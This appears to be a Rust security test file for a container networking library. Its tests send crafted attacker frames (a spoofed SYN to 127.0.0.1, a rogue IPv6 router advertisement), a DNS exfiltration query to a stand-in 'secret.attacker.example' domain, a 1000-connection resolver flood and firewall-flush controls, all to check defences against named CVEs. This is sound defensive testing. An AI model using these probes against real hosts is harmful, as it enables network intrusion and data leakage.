//! An attacker's packets against the host boundary, each with its positive
//! control: the same probe sent where it must get through (or with the
//! defence taken away) shows that it would have seen the hole.
//!
//! The attackers: a neighbour on the host's LAN (the outside host, sending
//! frames to the host's MAC) and a container with the default
//! `CAP_NET_RAW` (sending frames to its gateway's MAC).

use cnm::driverapi::{PortBinding, Protocol};
use cnm::osl::firewall::Firewall as _;
use cnm::{EndpointConfig, JoinOptions, NetworkConfig, SandboxConfig};
use cnm_tests::attack::{Sniffer, is_syn_ack_from, is_syn_to, send_frame, tcp_syn};
use cnm_tests::{OUTSIDE, TestHost, UPLINK_HOST, peer_echo_server, seen_as};
use std::net::{IpAddr, Ipv4Addr};
use std::time::Duration;

/// How long a sniffer waits for a frame that should (or should not) come.
const WAIT: Duration = Duration::from_secs(2);

fn tcp(port: u16, host_ip: Option<&str>, host_port: u16) -> PortBinding {
    PortBinding {
        proto: Protocol::Tcp,
        ip: None,
        port,
        host_ip: host_ip.map(|s| s.parse().unwrap()),
        host_port,
        host_port_end: 0,
    }
}

async fn mac(nl: &cnm::osl::Netlink, ifname: &str) -> [u8; 6] {
    nl.link_get(ifname).await.unwrap().unwrap().mac.expect("an Ethernet address")
}

/// A container on a new bridge network, publishing `ports`: its sandbox,
/// namespace, address and netlink handle inside.
async fn container(
    ctrl: &cnm::Controller,
    net: &cnm::Network,
    name: &str,
    ports: Vec<PortBinding>,
) -> (cnm::Sandbox, cnm::osl::Namespace, Ipv4Addr, cnm::osl::Netlink) {
    let ep = net.create_endpoint(name, EndpointConfig::default()).await.unwrap();
    let sb = ctrl.new_sandbox(name, SandboxConfig { port_bindings: ports, ..Default::default() }).await.unwrap();
    ep.join(&sb, JoinOptions::default()).await.unwrap();
    let IpAddr::V4(ip) = ep.info().await.unwrap().ipv4.unwrap().addr() else { panic!("IPv4") };
    let ns = sb.namespace().unwrap();
    let nl = cnm::osl::Netlink::connect(&ns, cnm::osl::DEFAULT_DEADLINE).await.unwrap();
    (sb, ns, ip, nl)
}

/// A port published on 127.0.0.1 answers the host, and a LAN neighbour's
/// SYN to 127.0.0.1 through the host's MAC never reaches the container
/// (moby#41872), nor does one to the published port of an address that is
/// not the host's. Controls: the same frame to a port published on every
/// address reaches the container; with cnm's `raw` chain flushed, the
/// 127.0.0.1 frame reaches it too (the hole), and is dropped again once the
/// table is re-asserted.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_port_published_on_loopback_answers_the_host_alone() {
    let Some(h) = TestHost::new("a_port_published_on_loopback_answers_the_host_alone").await else { return };
    let out = h.outside().await;
    let ctrl = h.controller().await;
    let net = ctrl.new_network("bridge", "lo-pub", NetworkConfig::default()).await.unwrap();
    let ports = vec![tcp(80, Some("127.0.0.1"), 8080), tcp(81, None, 8081)];
    let (_web, web_ns, web_ip, _) = container(&ctrl, &net, "web", ports).await;
    let _server = peer_echo_server(&web_ns, "0.0.0.0:80".parse().unwrap(), 1).await;
    // The host itself reaches it.
    seen_as(&h.ns, "127.0.0.1:8080".parse().unwrap()).await.expect("published on 127.0.0.1: the host reaches it");

    let host_mac = mac(&h.nl, "uplink").await;
    let neighbour_mac = mac(&out.nl, "eth0").await;
    let outside: Ipv4Addr = OUTSIDE.parse().unwrap();
    let probe = |dst: (Ipv4Addr, u16), expect: (Ipv4Addr, u16)| {
        let (web_ns, out_ns) = (web_ns.clone(), out.ns.clone());
        async move {
            let sniffer = Sniffer::start(&web_ns, "eth0").await;
            send_frame(&out_ns, "eth0", tcp_syn(host_mac, neighbour_mac, (outside, 40000), dst)).await;
            sniffer.saw(WAIT, move |f| is_syn_to(f, expect)).await
        }
    };
    let loopback = (Ipv4Addr::LOCALHOST, 8080);
    // Control: the probe reaches a port published on every address.
    assert!(probe((UPLINK_HOST.parse().unwrap(), 8081), (web_ip, 81)).await, "control: the probe gets through");
    assert!(!probe(loopback, (web_ip, 80)).await, "a neighbour's frame to 127.0.0.1 reached the container");
    // A frame to the published port of an address that is not the host's
    // (another machine's, sent to the host's MAC) is not translated either.
    assert!(
        !probe(("10.250.0.99".parse().unwrap(), 8081), (web_ip, 81)).await,
        "another host's address was translated"
    );

    // Control: without the guard the same frame gets through…
    cnm_tests::nft(&h.ns, &["flush", "chain", "inet", "cnm", "raw"]).await;
    assert!(probe(loopback, (web_ip, 80)).await, "control: without the raw chain, the hole is there");
    // …and the table put back closes it again.
    cnm::osl::firewall::NftFirewall::new(h.ns.clone()).ensure_base().await.unwrap();
    assert!(!probe(loopback, (web_ip, 80)).await, "the re-asserted table drops it again");
    cnm_tests::remove_all(&ctrl).await;
}

/// A container's SYN to 127.0.0.1 through its gateway's MAC does not reach
/// a service the host runs on its loopback, although `route_localnet` is
/// on for the bridge (CVE-2020-8558). Control: the same probe to the
/// gateway's address reaches a service the host runs on every address.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_container_cannot_reach_the_hosts_loopback_services() {
    let Some(h) = TestHost::new("a_container_cannot_reach_the_hosts_loopback_services").await else { return };
    let ctrl = h.controller().await;
    let net = ctrl.new_network("bridge", "lo-svc", NetworkConfig::default()).await.unwrap();
    let (_c, c_ns, c_ip, c_nl) = container(&ctrl, &net, "c", vec![]).await;
    // The host's services: one on its loopback (etcd, a database, cnmd with
    // --insecure-tcp), one on every address.
    let _lo = peer_echo_server(&h.ns, "127.0.0.1:2379".parse().unwrap(), 1).await;
    let _any = peer_echo_server(&h.ns, "0.0.0.0:2380".parse().unwrap(), 1).await;
    let gw = match net.info().await.unwrap().ipv4[0].gateway.unwrap().addr() {
        IpAddr::V4(g) => g,
        IpAddr::V6(_) => panic!("an IPv4 gateway"),
    };
    // The network's bridge (the only one in this scratch host) answers for the gateway.
    let links = h.nl.link_list().await.unwrap();
    let bridge = links.iter().find(|l| l.kind == cnm::osl::LinkKind::Bridge).expect("the network's bridge");
    let bridge_mac = bridge.mac.expect("an Ethernet address");
    let own_mac = mac(&c_nl, "eth0").await;
    let probe = |dst: (Ipv4Addr, u16)| {
        let c_ns = c_ns.clone();
        async move {
            let sniffer = Sniffer::start(&c_ns, "eth0").await;
            send_frame(&c_ns, "eth0", tcp_syn(bridge_mac, own_mac, (c_ip, 40001), dst)).await;
            sniffer.saw(WAIT, move |f| is_syn_ack_from(f, dst)).await
        }
    };
    assert!(probe((gw, 2380)).await, "control: the probe reaches the host's service on every address");
    assert!(!probe((Ipv4Addr::LOCALHOST, 2379)).await, "the container reached a service on the host's loopback");
    cnm_tests::nft(&h.ns, &["flush", "chain", "inet", "cnm", "raw"]).await;
    assert!(probe((Ipv4Addr::LOCALHOST, 2379)).await, "control: without the raw chain, the hole is there");
    cnm::osl::firewall::NftFirewall::new(h.ns.clone()).ensure_base().await.unwrap();
    cnm_tests::remove_all(&ctrl).await;
}

/// A sandbox whose networks are all internal resolves its neighbours and
/// nothing else: an outside name is answered REFUSED and no upstream — the
/// host's loopback one (127.0.0.53, asked from the host's namespace) or any
/// other — hears of it (CVE-2024-29018). Controls: the same question from a
/// sandbox on a network that is not internal reaches the upstream; the
/// internal sandbox joined to such a network too gets its answer, and loses
/// it again when it leaves.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_internal_network_resolves_names_but_forwards_nothing() {
    use cnm_dns::proto::op::ResponseCode;
    use cnm_dns::proto::rr::RecordType;
    use cnm_tests::dns::{RESOLVER, TestUpstream, UpstreamMode, ask, lookup_a};
    let Some(h) = TestHost::new("an_internal_network_resolves_names_but_forwards_nothing").await else { return };
    // The scratch host's resolv.conf names 127.0.0.53 first (systemd-resolved's address).
    let upstream = TestUpstream::start(&h.ns, "127.0.0.53".parse().unwrap(), UpstreamMode::Answering).await;
    let ctrl = cnm_tests::dns::controller(&h).await;
    let internal = NetworkConfig { internal: true, ..Default::default() };
    let int = ctrl.new_network("bridge", "int", internal).await.unwrap();
    let open = ctrl.new_network("bridge", "open", NetworkConfig::default()).await.unwrap();
    let (a, a_ns, _, _) = container(&ctrl, &int, "a", vec![]).await;
    let (_b, _, b_ip, _) = container(&ctrl, &int, "b", vec![]).await;
    let (_c, c_ns, _, _) = container(&ctrl, &open, "c", vec![]).await;
    let leak = "secret.attacker.example";

    assert_eq!(lookup_a(&a_ns, "b").await.unwrap(), vec![b_ip], "internal names still resolve");
    let r = ask(&a_ns, RESOLVER, leak, RecordType::A, false, false).await.unwrap();
    assert_eq!(r.metadata.response_code, ResponseCode::Refused);
    let r = ask(&a_ns, RESOLVER, leak, RecordType::A, true, false).await.unwrap();
    assert_eq!(r.metadata.response_code, ResponseCode::Refused, "over TCP too");
    assert_eq!(upstream.queries(), 0, "an internal sandbox's question reached an upstream");

    // Control: from a sandbox that has a way out, the question gets there.
    let r = ask(&c_ns, RESOLVER, leak, RecordType::A, false, false).await.unwrap();
    assert_eq!(r.metadata.response_code, ResponseCode::NXDomain);
    assert_eq!(upstream.queries(), 1, "control: the upstream hears a sandbox that may ask");

    // The policy follows the sandbox's networks.
    let ep = open.create_endpoint("a-open", EndpointConfig::default()).await.unwrap();
    ep.join(&a, JoinOptions::default()).await.unwrap();
    let r = ask(&a_ns, RESOLVER, "ext.test", RecordType::A, false, false).await.unwrap();
    assert_eq!(r.metadata.response_code, ResponseCode::NoError, "joined to an open network, a may ask");
    ep.leave(&a).await.unwrap();
    let r = ask(&a_ns, RESOLVER, "other.attacker.example", RecordType::A, false, false).await.unwrap();
    assert_eq!(r.metadata.response_code, ResponseCode::Refused, "internal-only again");
    assert_eq!(upstream.queries(), 2);
    cnm_tests::remove_all(&ctrl).await;
}

/// The server ends of a sandbox's TCP connections to 127.0.0.11:53 that are
/// open (seen from inside the sandbox's namespace).
async fn resolver_connections(ns: &cnm::osl::Namespace) -> usize {
    ns.run(|| {
        let table = std::fs::read_to_string("/proc/thread-self/net/tcp").unwrap_or_default();
        // Local 127.0.0.11:53 (little-endian hex), state ESTABLISHED.
        table
            .lines()
            .filter(|l| {
                l.split_whitespace().nth(1) == Some("0B00007F:0035") && l.split_whitespace().nth(3) == Some("01")
            })
            .count()
    })
    .await
    .unwrap()
}

/// One sandbox opening 1000 TCP connections to its resolver holds at most
/// `MAX_TCP_CONNECTIONS` of them open on the resolver's side (the daemon's
/// descriptors), and the resolver keeps answering meanwhile — that sandbox
/// over UDP, another sandbox over TCP. Control: the connections are made
/// (the resolver accepts them all), so the bound is what keeps them few.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_connection_flood_gets_a_bounded_share_of_the_resolver() {
    use cnm_dns::proto::op::ResponseCode;
    use cnm_dns::proto::rr::RecordType;
    use cnm_tests::dns::{RESOLVER, ask, lookup_a};
    let Some(h) = TestHost::new("a_connection_flood_gets_a_bounded_share_of_the_resolver").await else { return };
    // The client ends live in this process: room for them.
    let (_, hard) = nix::sys::resource::getrlimit(nix::sys::resource::Resource::RLIMIT_NOFILE).unwrap();
    nix::sys::resource::setrlimit(nix::sys::resource::Resource::RLIMIT_NOFILE, hard.min(8192), hard).unwrap();
    let ctrl = cnm_tests::dns::controller(&h).await;
    let net = ctrl.new_network("bridge", "flood", NetworkConfig::default()).await.unwrap();
    let (_a, a_ns, _, _) = container(&ctrl, &net, "a", vec![]).await;
    let (_b, b_ns, b_ip, _) = container(&ctrl, &net, "b", vec![]).await;
    let connected = a_ns
        .run(|| {
            let mut held = Vec::new();
            for _ in 0..1000 {
                if let Ok(s) = std::net::TcpStream::connect_timeout(&RESOLVER, Duration::from_secs(1)) {
                    held.push(s);
                }
            }
            held
        })
        .await
        .unwrap();
    assert!(connected.len() >= 900, "control: the flood's connections are made ({})", connected.len());
    // The resolver closes the excess as it accepts them: wait (bounded) until it has.
    let start = std::time::Instant::now();
    let mut open = resolver_connections(&a_ns).await;
    while open > cnm_dns::MAX_TCP_CONNECTIONS && start.elapsed() < Duration::from_secs(5) {
        tokio::time::sleep(Duration::from_millis(50)).await;
        open = resolver_connections(&a_ns).await;
    }
    assert!(open <= cnm_dns::MAX_TCP_CONNECTIONS, "{open} connections held by the resolver");
    // Meanwhile: the flooding sandbox over UDP, the other one over TCP.
    assert_eq!(lookup_a(&a_ns, "b").await.unwrap(), vec![b_ip]);
    let r = ask(&b_ns, RESOLVER, "a", RecordType::A, true, false).await.unwrap();
    assert_eq!(r.metadata.response_code, ResponseCode::NoError);
    drop(connected);
    cnm_tests::remove_all(&ctrl).await;
}

/// A container's IPv6 router advertisement changes nothing on the host:
/// no default route through it, no address from its prefix on the bridge
/// (CVE-2020-13401 class). Control: with `accept_ra` turned back on for the
/// bridge, the same advertisement makes the container the host's router.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_containers_router_advertisement_changes_nothing() {
    use cnm_tests::attack::router_advertisement;
    let Some(h) = TestHost::new("a_containers_router_advertisement_changes_nothing").await else { return };
    let ctrl = h.controller().await;
    let net = ctrl.new_network("bridge", "ra", NetworkConfig::default()).await.unwrap();
    let (_c, c_ns, _, c_nl) = container(&ctrl, &net, "c", vec![]).await;
    let links = h.nl.link_list().await.unwrap();
    let bridge = links.iter().find(|l| l.kind == cnm::osl::LinkKind::Bridge).expect("the bridge").name.clone();
    let c_mac = mac(&c_nl, "eth0").await;
    let ll: std::net::Ipv6Addr = "fe80::bad:1".parse().unwrap();
    let prefix: std::net::Ipv6Addr = "2001:db8:bad::".parse().unwrap();
    let learnt = || async {
        let routes = h.nl.route_list(true).await.unwrap();
        let default = routes.iter().any(|r| r.destination.prefix_len() == 0);
        let addrs = h.nl.addr_list(None).await.unwrap_or_default();
        let slaac = addrs
            .iter()
            .any(|a| matches!(a.net.addr(), IpAddr::V6(v6) if v6.segments()[..3] == prefix.segments()[..3]));
        default || slaac
    };
    send_frame(&c_ns, "eth0", router_advertisement(c_mac, ll, prefix)).await;
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert!(!learnt().await, "the host took the container's router advertisement");
    // Control: a bridge that accepts advertisements learns from the same frame.
    h.ns.sysctl_set(&format!("net/ipv6/conf/{bridge}/accept_ra"), "1").await.unwrap();
    send_frame(&c_ns, "eth0", router_advertisement(c_mac, ll, prefix)).await;
    let start = std::time::Instant::now();
    while !learnt().await {
        assert!(start.elapsed() < Duration::from_secs(5), "control: the advertisement was never taken");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    cnm_tests::remove_all(&ctrl).await;
}

/// A container with `NET_ADMIN` in its namespace, disconnected from a
/// network, brings the interface cnm took away up again at once (before it
/// is deleted) and pings its old neighbour: nothing answers, as the host end
/// of its veth pair is down. Control: the same probe from a second container
/// whose host end is brought up again (the hole, made by hand) is answered,
/// so the probe would have seen it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_disconnected_container_raising_its_old_interface_reaches_nothing() {
    let test = "a_disconnected_container_raising_its_old_interface_reaches_nothing";
    let Some(h) = TestHost::new(test).await else { return };
    let ctrl = h.controller().await;
    let net = ctrl.new_network("bridge", "cut", NetworkConfig::default()).await.unwrap();
    let (_b, _, b_ip, _) = container(&ctrl, &net, "b", vec![]).await;
    // A round whose pair the background deletion took before the probe
    // ended proves nothing and is run again (a slow machine), as is a
    // control round whose one short probe went unanswered: the attack must
    // be answered in no round, the control in one of five.
    let mut proved = false;
    for attempt in 0..5 {
        if let Some(answered) = disconnect_raise_and_probe(&h, &ctrl, &net, &format!("a{attempt}"), false, b_ip).await {
            assert!(!answered, "a disconnected container reached its old network by raising its interface");
            proved = true;
            break;
        }
    }
    assert!(proved, "five rounds in a row lost their pair before the probe ended");
    let mut control = false;
    for attempt in 0..5 {
        if disconnect_raise_and_probe(&h, &ctrl, &net, &format!("c{attempt}"), true, b_ip).await == Some(true) {
            control = true;
            break;
        }
    }
    assert!(control, "control: with the host end up, the raised interface never reached the network in five rounds");
    cnm_tests::remove_all(&ctrl).await;
}

/// One round of the test above: a sandbox `name` joins `net`, reaches
/// `peer`, is disconnected, raises its old interface (and, with `hole`,
/// the host end is raised by hand) and pings `peer` again. Whether it was
/// answered, or `None` if the pair was deleted before the probe ended.
async fn disconnect_raise_and_probe(
    h: &TestHost,
    ctrl: &cnm::Controller,
    net: &cnm::Network,
    name: &str,
    hole: bool,
    peer: Ipv4Addr,
) -> Option<bool> {
    let ep = net.create_endpoint(name, EndpointConfig::default()).await.unwrap();
    let sb = ctrl.new_sandbox(name, SandboxConfig::default()).await.unwrap();
    ep.join(&sb, JoinOptions::default()).await.unwrap();
    let ns = sb.namespace().unwrap();
    let nl = cnm::osl::Netlink::connect(&ns, cnm::osl::DEFAULT_DEADLINE).await.unwrap();
    cnm_tests::assert_ping(&ns, peer.into()).await;
    let host_end = format!("veth{}", cnm::driverapi::id::short(ep.id(), 11));

    ep.leave_and_delete(&sb).await.unwrap();
    let Some(old) = nl.link_get("eth0").await.unwrap() else {
        // Deleted already: a stall longer than the reaper's delay.
        sb.delete().await.unwrap();
        return None;
    };
    assert_eq!(old.alias.as_deref(), Some("cnm:deleting"));
    assert!(!old.up, "cnm took the old interface down");
    let raised = nl.link_set_up(old.index).await.is_ok();
    if hole && let Ok(Some(host)) = h.nl.link_get(&host_end).await {
        let _ = h.nl.link_set_up(host.index).await;
    }
    let answered = raised && cnm::osl::probe::ping(&ns, peer.into(), Duration::from_millis(200)).await.is_ok();
    let intact = nl.link_get_index(old.index).await.unwrap().is_some_and(|l| l.up);
    // The pair goes in the background: gone before the next round, so that
    // the next pair's deletion starts a batch of its own.
    let start = std::time::Instant::now();
    while nl.link_get_index(old.index).await.unwrap().is_some() {
        assert!(start.elapsed() < Duration::from_secs(10), "the old interface was never deleted");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    sb.delete().await.unwrap();
    (answered || (raised && intact)).then_some(answered)
}
